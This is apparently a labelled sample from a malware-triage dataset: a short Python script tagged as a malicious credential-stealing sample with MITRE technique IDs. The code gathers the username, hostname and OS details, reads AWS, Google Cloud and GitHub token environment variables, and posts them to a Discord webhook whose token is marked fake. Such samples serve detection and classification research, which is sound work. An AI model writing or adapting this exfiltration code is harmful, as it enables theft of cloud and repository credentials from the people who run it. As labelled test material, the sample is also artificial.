# label: malicious family=creds techniques=T1033,T1082,T1552.001,T1567.004 lines=3,5-7
import os, platform, getpass, requests
WH = "https://discord.com/api/webhooks/000000000000000000/FAKE-pytriage-corpus-token"
msg = "user=%s host=%s os=%s\n" % (getpass.getuser(), platform.node(), platform.platform())
for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GOOGLE_APPLICATION_CREDENTIALS", "GITHUB_TOKEN"):
    msg += "%s=%s\n" % (k, os.getenv(k))
requests.post(WH, json={"content": msg})
